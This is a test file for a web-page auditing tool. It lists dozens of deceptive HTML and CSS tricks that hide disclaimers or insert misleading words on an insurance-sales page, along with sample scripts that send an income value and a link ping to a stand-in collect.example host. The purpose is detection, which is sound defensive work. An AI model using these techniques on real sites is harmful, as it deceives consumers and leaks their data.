import { test as base, expect } from 'playwright/test';
import { ELSEWHERE } from '../../../scripts/audit/transcript/visit/circumstances.ts';
import { Addresses, anchorsIn } from '../../../scripts/audit/transcript/write/addresses.ts';
import { describeChanges } from '../../../scripts/audit/transcript/write/line-changes.ts';
import { compareMeetings } from '../../../scripts/audit/transcript/write/meeting-changes.ts';
import { walkPage } from '../../../scripts/audit/transcript/walk-page.ts';
import { type PageWalk } from '../../../scripts/audit/transcript/write/page-walk.ts';
import { compileContent } from '../../../scripts/content/compile.ts';
import { fileURLToPath } from 'node:url';

/** What an honest page says, what an attack makes of it, and what the transcript has to hold then. */
interface Attack {
  honest: string;
  attacked: string;
  /** Styles of the attacked page only. */
  style?: string;
  expected: string;
}

const NOTICE = '<p>This is not the Health Insurance Marketplace website.</p>';

const ATTACKS: Record<string, Attack> = {
  'a style variable adds words': {
    honest: '<p id="v">Insurance</p>',
    attacked: '<p id="v">Insurance</p>',
    style: '#v { --said: "Free "; } #v::before { content: var(--said); }',
    expected: '+ Free Insurance',
  },
  'an attribute is shown': {
    honest: '<p id="a" data-x="1">Insurance for you</p>',
    attacked: '<p id="a" data-x="Government ">Insurance for you</p>',
    style: '#a::before { content: attr(data-x); }',
    expected: '+ (x: Government ) Government Insurance for you',
  },
  'a counter counts in words': {
    honest: '<p id="c">Premiums</p>',
    attacked: '<p id="c">Premiums</p>',
    style:
      '@counter-style zero { system: fixed; symbols: "No "; } #c { counter-increment: c; } #c::before { content: counter(c, zero); }',
    expected: '+ No Premiums',
  },
  'quotation marks say something': {
    honest: '<p>Our plans <q id="q">rise in price</q></p>',
    attacked: '<p>Our plans <q id="q">rise in price</q></p>',
    style: '#q { quotes: "never " ""; }',
    expected: '+ Our plans never rise in price',
  },
  'list marks say something': {
    honest: '<ul><li id="l">approval by a carrier</li></ul>',
    attacked: '<ul><li id="l">approval by a carrier</li></ul>',
    style: '#l { list-style: "Guaranteed "; }',
    expected: '+ - Guaranteed approval by a carrier',
  },
  'a list starts elsewhere': {
    honest: '<ol><li>in customer service</li></ol>',
    attacked: '<ol start="10"><li>in customer service</li></ol>',
    expected: '+ - 10. in customer service',
  },
  'letters of no size': {
    honest: NOTICE,
    attacked: NOTICE.replace('<p', '<p style="font-size: 0"'),
    expected: '+ «heard, not seen: letters too small: This is not the Health Insurance Marketplace website.»',
  },
  'the color of the ground': {
    honest: NOTICE.replace('This', 'Here: this'),
    attacked: NOTICE.replace('This', 'Here: this').replace('<p', '<p style="color: #fefefe"'),
    expected: '+ «heard, not seen: color of its background: Here: this is not',
  },
  'one word hidden': {
    honest: '<p>This plan does <b>not</b> cover everything.</p>',
    attacked: '<p>This plan does <b style="display: none">not</b> cover everything.</p>',
    expected: '+ This plan does cover everything.',
  },
  'shifted off the page': {
    honest: '<p>Prices may rise.</p>',
    attacked: '<p style="position: absolute; left: -9999px">Prices may rise.</p>',
    expected: '+ «heard, not seen: off the page: Prices may rise.»',
  },
  'cut off by a box': {
    honest: '<div><p>Benefits differ.</p></div>',
    attacked: '<div style="height: 0; overflow: hidden"><p>Benefits differ.</p></div>',
    expected: '+ «heard, not seen: cut off: Benefits differ.»',
  },
  'cut away by a shape': {
    honest: '<p>Carriers may decline.</p>',
    attacked: '<p style="clip-path: inset(50%)">Carriers may decline.</p>',
    expected: '+ «heard, not seen: cut off: Carriers may decline.»',
  },
  'transparent through an ancestor': {
    honest: '<div><p>Waiting periods apply.</p></div>',
    attacked: '<div style="opacity: 0.05"><p>Waiting periods apply.</p></div>',
    expected: '+ «heard, not seen: transparent: Waiting periods apply.»',
  },
  'covered by something else': {
    honest: '<div style="position: relative"><p>Exclusions apply.</p></div>',
    attacked:
      '<div style="position: relative"><p>Exclusions apply.</p><i style="position: absolute; inset: 0; background: #fff"></i></div>',
    expected: '+ «heard, not seen: covered: Exclusions apply.»',
  },
  'withheld from assistive technology': {
    honest: '<p>Read this notice.</p>',
    attacked: '<p aria-hidden="true">Read this notice.</p>',
    expected: '+ «seen, not heard: Read this notice.»',
  },
  'struck through': {
    honest: '<p>No refunds</p>',
    attacked: '<p><s>No</s> refunds</p>',
    expected: '+ «struck through: No» refunds',
  },
  'moved into a template': {
    honest: '<p>We are a private agency.</p>',
    attacked: '<template><p>We are a private agency.</p></template>',
    expected: 'gone: We are a private agency.',
  },
  'for visitors without scripts only': {
    honest: '<p>Ask a tax adviser.</p>',
    attacked: '<noscript><p>Ask a tax adviser.</p></noscript>',
    expected: 'gone: Ask a tax adviser.',
  },
  'a box ticked beforehand': {
    honest: '<label><input type="checkbox"> Call me</label>',
    attacked: '<label><input type="checkbox" checked> Call me</label>',
    expected: '+ [(•) checkbox “Call me”] Call me',
  },
  'a field filled in beforehand': {
    honest: '<label>Agent <input></label>',
    attacked: '<label>Agent <input value="Marketplace"></label>',
    expected: '+ Agent [text “Agent” = “Marketplace”]',
  },
  'a name other than the words': {
    honest: '<a href="/quote">See plans</a>',
    attacked: '<a href="/quote" aria-label="See government plans">See plans</a>',
    expected: '+ [See plans](→ /quote; spoken as “See government plans”)',
  },
  'a description that only some hear': {
    honest: '<button>Start</button>',
    attacked: '<button aria-description="Official site">Start</button>',
    expected: '+ [button: Start; described as “Official site”]',
  },
  'a link leads elsewhere': {
    honest: '<a href="tel:+18005550142">Call us</a>',
    attacked: '<a href="tel:+18005550143">Call us</a>',
    expected: '+ [Call us](→ tel:+18005550143)',
  },
  'the subject of an email': {
    honest: '<a href="mailto:help@agency.example">Write</a>',
    attacked: '<a href="mailto:help@agency.example?subject=Official">Write</a>',
    expected: '+ [Write](→ mailto:help@agency.example?subject=Official)',
  },
  'the order of figures': {
    honest: '<div id="o"><b>$0</b><b>$500</b></div>',
    attacked: '<div id="o"><b>$0</b><b>$500</b></div>',
    style: '#o { display: flex; flex-direction: row-reverse; }',
    expected: '+ (shown before what precedes it)',
  },
  'another picture under a name': {
    honest:
      '<img alt="Seal" src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7">',
    attacked:
      '<img alt="Seal" src="data:image/gif;base64,R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==">',
    expected: '+ {picture data:',
  },
  'a picture behind words': {
    honest: '<p id="b">Call now</p>',
    attacked: '<p id="b">Call now</p>',
    style:
      '#b { background: url("data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"); }',
    expected: '+ {background data:',
  },
  'a script rewrites a heading later': {
    honest: '<h2 id="late">Get help</h2>',
    attacked:
      '<h2 id="late">Get help</h2><script>setTimeout(() => { late.textContent = "Get free help" }, 60_000)</script>',
    expected: '+ ## Get free help',
  },
  'a script asks elsewhere': {
    honest: '<p>Private</p>',
    attacked: '<p>Private</p><script>fetch("https://collect.example/?income=20000").catch(() => 0)</script>',
    expected: 'asks: https://collect.example/?income=20000',
  },
  'a script leads on': {
    honest: '<p>Stay</p>',
    attacked:
      '<p>Stay</p><script>setTimeout(() => { location.href = "https://elsewhere.example/" }, 5_000)</script>',
    expected: 'leads to: https://elsewhere.example/',
  },
  'a script keeps answers': {
    honest: '<p>Nothing is stored</p>',
    attacked:
      '<p>Nothing is stored</p><script>localStorage.setItem("draft", JSON.stringify({ income: "20000" }))</script>',
    expected: '+ kept in this browser: draft.income = 20000',
  },
  'words on paper only': {
    honest: '<p id="paper">Terms</p>',
    attacked: '<p id="paper">Terms</p>',
    style: '@media print { #paper::after { content: " do not apply"; } }',
    expected: 'on paper: + Terms do not apply',
  },
  'words under the pointer only': {
    honest: '<p id="h">Plans</p>',
    attacked: '<p id="h">Plans</p>',
    style: '#h:hover::after { content: " of the government"; }',
    expected: 'under the pointer or in focus: + Plans of the government',
  },
  'words at one width only': {
    honest: '<p id="w">Rates</p>',
    attacked: '<p id="w">Rates</p>',
    style: '@media (min-width: 700px) and (max-width: 900px) { #w::after { content: " guaranteed"; } }',
    expected: 'at 768 px: + Rates guaranteed',
  },
  'words for visitors who want less motion': {
    honest: '<p id="m">Quotes</p>',
    attacked: '<p id="m">Quotes</p>',
    style: '@media (prefers-reduced-motion) { #m::after { content: " are binding"; } }',
    expected: 'with less motion, dark and forced colors: + Quotes are binding',
  },
  'words in a layer, a scope and a container': {
    honest: '<div id="layers"><p>Coverage</p></div>',
    attacked: '<div id="layers"><p>Coverage</p></div>',
    style:
      '#layers { container-type: inline-size; } @layer late { @scope (#layers) { @container (min-width: 10px) { p::after { content: " for all"; } } } }',
    expected: '+ Coverage for all',
  },
  'a picture with words in a style': {
    honest: '<p id="drawn">Deductible</p>',
    attacked: '<p id="drawn">Deductible</p>',
    style: `#drawn::after { content: url("data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><text>none</text></svg>"); }`,
    expected: '+ Deductible {picture data:',
  },
  'a mask takes words away': {
    honest: '<p id="masked">Copays apply.</p>',
    attacked: '<p id="masked">Copays apply.</p>',
    style: '#masked { mask-image: linear-gradient(transparent, transparent); }',
    expected: '+ {mask linear-gradient(rgba(0, 0, 0, 0), rgba(0, 0, 0, 0))} Copays apply.',
  },
  'an indent moves words out of their box': {
    honest: '<p id="indented">Limits apply.</p>',
    attacked: '<p id="indented">Limits apply.</p>',
    style: '#indented { text-indent: -9999px; overflow: hidden; }',
    expected: '+ «heard, not seen: off the page: Limits apply.»',
  },
  'words shrunk to nothing': {
    honest: '<p id="shrunk">Networks vary.</p>',
    attacked: '<p id="shrunk">Networks vary.</p>',
    style: '#shrunk { transform: scale(0.05); }',
    expected: '+ «heard, not seen: letters too small: Networks vary.»',
  },
  'words whose content is not rendered': {
    honest: '<div id="skipped"><p>Not in all states.</p></div>',
    attacked: '<div id="skipped"><p>Not in all states.</p></div>',
    style: '#skipped { content-visibility: hidden; }',
    expected: 'gone: Not in all states.',
  },
  'letters drawn by another font': {
    honest: '<p id="font">Rates may rise</p>',
    attacked: '<p id="font">Rates may rise</p>',
    style:
      '@font-face { font-family: other; src: url("/other.woff2"); unicode-range: U+65; } #font { font-family: other; }',
    expected: 'asks: /other.woff2',
  },
  'letters drawn by a font inside a style': {
    honest: '<p id="inner">Prices may rise</p>',
    attacked: '<p id="inner">Prices may rise</p>',
    style:
      '@font-face { font-family: inner; src: url("data:font/woff2;base64,d09GMgABAAAAAA=="); } #inner { font-family: inner; }',
    expected: 'asks: data: (',
  },
  'letters in the other direction': {
    honest: '<p>top 10 agents</p>',
    attacked: '<p><bdo dir="rtl">top 10 agents</bdo></p>',
    expected: '+ (dir: rtl) top 10 agents',
  },
  'letters that a style turns round': {
    honest: '<p id="turned">.tsoc on tA</p>',
    attacked: '<p id="turned">.tsoc on tA</p>',
    style: '#turned { direction: rtl; unicode-bidi: bidi-override; }',
    expected: '+ «letters turned round: .tsoc on tA»',
  },
  'a button that is a picture': {
    honest: '<form><button>Quote</button></form>',
    attacked:
      '<form><input type="image" alt="Government quote" src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"></form>',
    expected: '+ [image “Government quote”',
  },
  'a popover that a script opens': {
    honest: '<div id="pop" popover>Official partner</div>',
    attacked: '<div id="pop" popover>Official partner</div><script>pop.showPopover()</script>',
    expected: '+ Official partner',
  },
  'a title within a drawing': {
    honest: '<svg role="img" width="9" height="9"><title>Seal</title><path d="M0 0h9v9z"/></svg>',
    attacked: '<svg role="img" width="9" height="9"><title>Federal seal</title><path d="M0 0h9v9z"/></svg>',
    expected: '+ {icon drawn here',
  },
  'a name put on after ten seconds': {
    honest: '<a href="/aca" id="named">Plans</a>',
    attacked:
      '<a href="/aca" id="named">Plans</a><script>setTimeout(() => named.setAttribute("aria-label", "Federal plans"), 10_000)</script>',
    expected: '+ [Plans](→ /aca; spoken as “Federal plans”)',
  },
  'a link that tells others': {
    honest: '<a href="/a">About</a>',
    attacked: '<a href="/a" ping="https://collect.example/ping">About</a>',
    expected: '+ (ping → https://collect.example/ping) [About](→ /a)',
  },
  'a link that saves a file': {
    honest: '<a href="/plans.pdf">List</a>',
    attacked: '<a href="/plans.pdf" download="federal-plans.pdf">List</a>',
    expected: '+ (download: federal-plans.pdf) [List](→ /plans.pdf)',
  },
  'a name for what is no control': {
    honest: '<p>Coverage for your family</p>',
    attacked: '<p aria-label="Free coverage for your family">Coverage for your family</p>',
    expected: '+ (aria-label: Free coverage for your family) Coverage for your family',
  },
  'words for those without scripts': {
    honest: '<div><p>Enroll by phone</p></div>',
    attacked: '<div><p>Enroll by phone</p><noscript><p>Enroll with the government</p></noscript></div>',
    expected: 'without scripts: + Enroll with the government',
  },
  'answers that close each other': {
    honest: '<details><summary>Limits</summary><p>Limits apply.</p></details>',
    attacked: '<details name="one"><summary>Limits</summary><p>Limits apply.</p></details>',
    expected: '+ (closed at first; opening it closes the others of one)',
  },
  'another picture on sharper screens': {
    honest: '<img src="/a.png" alt="Our office">',
    attacked: '<img src="/a.png" srcset="/federal.png 3x" alt="Our office">',
    expected: '+ {picture /a.png, “Our office”, or /federal.png 3x}',
  },
  'a field that nobody sees': {
    honest: '<form><label>ZIP <input name="zip"></label></form>',
    attacked:
      '<form><label>ZIP <input name="zip"></label><input type="hidden" name="plan" value="short-term"></form>',
    expected: '+ ZIP [text “ZIP” = “”] [hidden field plan = “short-term”]',
  },
  'a link that the keyboard misses': {
    honest: '<p><a href="/limits">What is not covered</a></p>',
    attacked: '<p><a href="/limits" tabindex="-1">What is not covered</a></p>',
    expected: '+ (not reached by keyboard) [What is not covered](→ /limits)',
  },
  'a button that opens something else': {
    honest: '<p><button popovertarget="terms">Details</button></p>',
    attacked: '<p><button popovertarget="offer">Details</button></p>',
    expected: '+ (opens offer) [button: Details',
  },
  'words when one scrolls': {
    honest: '<p id="scrolled">Read on</p>',
    attacked:
      '<p id="scrolled">Read on</p><script>addEventListener("scroll", () => { if (scrollY > 20) scrolled.textContent = "Read on, it is free" })</script>',
    expected: 'elsewhere: + Read on, it is free',
  },
  'words between two breakpoints': {
    honest: '<p id="between">Benefits</p>',
    attacked: '<p id="between">Benefits</p>',
    style:
      '@media (min-width: 1000px) and (max-width: 1010px) { #between::after { content: " unlimited"; } }',
    expected: 'at 1005 px: + Benefits unlimited',
  },
  'words on the widest screens': {
    honest: '<p id="wide">Doctors</p>',
    attacked: '<p id="wide">Doctors</p>',
    style: '@media (min-width: 2000px) { #wide::after { content: " of your choice"; } }',
    expected: 'at 2280 px: + Doctors of your choice',
  },
  'words of another year': {
    honest: '<p id="year">Enroll</p>',
    attacked:
      '<p id="year">Enroll</p><script>if (new Date().getFullYear() > 2026) year.textContent = "Enroll today"</script>',
    expected: 'elsewhere: + Enroll today',
  },
  'words for another browser': {
    honest: '<p id="agent">Agents</p>',
    attacked:
      '<p id="agent">Agents</p><script>if (/iPhone/.test(navigator.userAgent)) agent.textContent = "Federal agents"</script>',
    expected: 'elsewhere: + Federal agents',
  },
  'words for a search engine': {
    honest: '<p id="robot">Search</p>',
    attacked:
      '<p id="robot">Search</p><script>if (/bot/i.test(navigator.userAgent)) robot.textContent = "Marketplace search"</script>',
    expected: 'elsewhere: + Marketplace search',
  },
  'words in another language': {
    honest: '<p id="spanish">Hello</p>',
    attacked:
      '<p id="spanish">Hello</p><script>if (navigator.language.startsWith("es")) spanish.textContent = "Gratis"</script>',
    expected: 'elsewhere: + Gratis',
  },
  'words for those who come by an ad': {
    honest: '<p id="ad">Offer</p>',
    attacked:
      '<p id="ad">Offer</p><script>if (location.search.includes("utm_")) ad.textContent = "Offer ends today"</script>',
    expected: 'elsewhere: + Offer ends today',
  },
  'words for those who come from a search': {
    honest: '<p id="from">Welcome</p>',
    attacked:
      '<p id="from">Welcome</p><script>if (document.referrer.includes("google")) from.textContent = "Official site"</script>',
    expected: 'elsewhere: + Official site',
  },
  'words on a second visit': {
    honest: '<p id="again">Thanks</p><script>localStorage.setItem("seen", "1")</script>',
    attacked:
      '<p id="again">Thanks</p><script>if (localStorage.getItem("seen")) again.textContent = "You qualify"; localStorage.setItem("seen", "1")</script>',
    expected: 'elsewhere: + You qualify',
  },
  'words when the network fails': {
    honest: '<p id="offline">On line</p>',
    attacked:
      '<p id="offline">On line</p><script>addEventListener("offline", () => { offline.textContent = "Guaranteed" })</script>',
    expected: 'elsewhere: + Guaranteed',
  },
  'a cell over two columns': {
    honest: '<table><tr><th>Bronze</th><th>Gold</th></tr><tr><td>60%</td><td>80%</td></tr></table>',
    attacked:
      '<table><tr><th colspan="2">Bronze</th><th>Gold</th></tr><tr><td>60%</td><td>80%</td></tr></table>',
    expected: '+ (colspan: 2) Bronze | Gold',
  },
  'an anchor on other words': {
    honest: '<p id="limits">What is not covered</p><p>Our offers</p><a href="#limits">Limits</a>',
    attacked: '<p>What is not covered</p><p id="limits">Our offers</p><a href="#limits">Limits</a>',
    expected: '+ (links lead here: #limits) Our offers',
  },
  'suggestions while typing': {
    honest: '<label>Insurer <input list="insurers"></label>',
    attacked:
      '<label>Insurer <input list="insurers"></label><datalist id="insurers"><option value="Medicare"></datalist>',
    expected: '+ suggests “Medicare”',
  },
  'a gauge that says more': {
    honest: '<meter value="0.2">2 of 10</meter> <progress max="5" value="2" aria-label="Rating"></progress>',
    attacked:
      '<meter value="0.9">2 of 10</meter> <progress max="5" value="5" aria-label="Rating"></progress>',
    expected: '+ [meter “” = “0.9”]',
  },
  'a figure raised to a power': {
    honest: '<p>$102 a month</p>',
    attacked: '<p>$10<sup>2</sup> a month</p>',
    expected: '+ $10«raised: 2» a month',
  },
  'a shadow over the words': {
    honest: '<div><p>We are a private company.</p></div>',
    attacked:
      '<div><template shadowrootmode="open"><p>We are the government.</p></template><p>We are a private company.</p></div>',
    expected: '+ We are the government.',
  },
  'words in a document inside the page': {
    honest: '<p>Above</p>',
    attacked: '<p>Above</p><object data="data:text/html,Official%20site" width="200" height="50"></object>',
    expected: '+ Official site',
  },
  'a link around a drawing': {
    honest: '<svg width="90" height="30"><text y="20">Go</text></svg>',
    attacked: '<svg width="90" height="30"><a href="/elsewhere"><text y="20">Go</text></a></svg>',
    expected: '+ {icon drawn here',
  },
};

const test = base.extend<object, { changes: string[] }>({
  changes: [
    async ({ browser }, use) => {
      const { content } = compileContent(fileURLToPath(new URL('../../..', import.meta.url)));
      if (content === null) throw new Error('the content has errors');
      const walk = (html: string): Promise<PageWalk> =>
        walkPage({ route: '/', address: 'http://127.0.0.1:9/', html, body: html }, 'desktop', {
          browser,
          content,
          states: [],
          addresses: new Addresses('/nowhere', 'http://127.0.0.1:9', '/', anchorsIn([{ html }])),
        });
      const [honest, again, attacked] = [
        await walk(page('honest')),
        await walk(page('honest')),
        await walk(page('attacked')),
      ];
      expect(again, 'two walks of one page').toEqual(honest);
      await use(differences(honest, attacked));
    },
    { scope: 'worker' },
  ],
});

for (const [name, { expected }] of Object.entries(ATTACKS))
  test(`${name}: the transcript shows it @any-width`, ({ changes }) => {
    expect(changes.filter((line) => line.startsWith(expected))).not.toEqual([]);
  });

/** All cases below each other, each apart from the next. */
function page(kind: 'honest' | 'attacked'): string {
  const cases = Object.values(ATTACKS);
  const styles = kind === 'honest' ? [] : cases.map(({ style }) => style ?? '');
  return `<!doctype html><html lang="en"><title>Cases</title><style>body { background: #fff; } ${styles.join('\n')}</style>
    <main>${cases.map((each) => `<section>${each[kind]}</section>`).join('\n')}</main></html>`;
}

function differences(before: PageWalk, after: PageWalk): string[] {
  const trim = (lines: readonly string[]) => lines.map((line) => line.replace(/^([+-])\s+/, '$1 '));
  return [
    ...trim(describeChanges(before.lines, after.lines)),
    ...before.lines.filter((line) => !after.lines.includes(line)).map((line) => `gone: ${line.trim()}`),
    ...after.requests.filter((each) => !before.requests.includes(each)).map((each) => `asks: ${each}`),
    ...after.navigations.map((each) => `leads to: ${each}`),
    ...compareMeetings(after.lines, after.meetings).flatMap(({ name, changes }) =>
      trim(changes).map((change) => `${name === ELSEWHERE ? 'elsewhere' : name}: ${change}`),
    ),
  ];
}
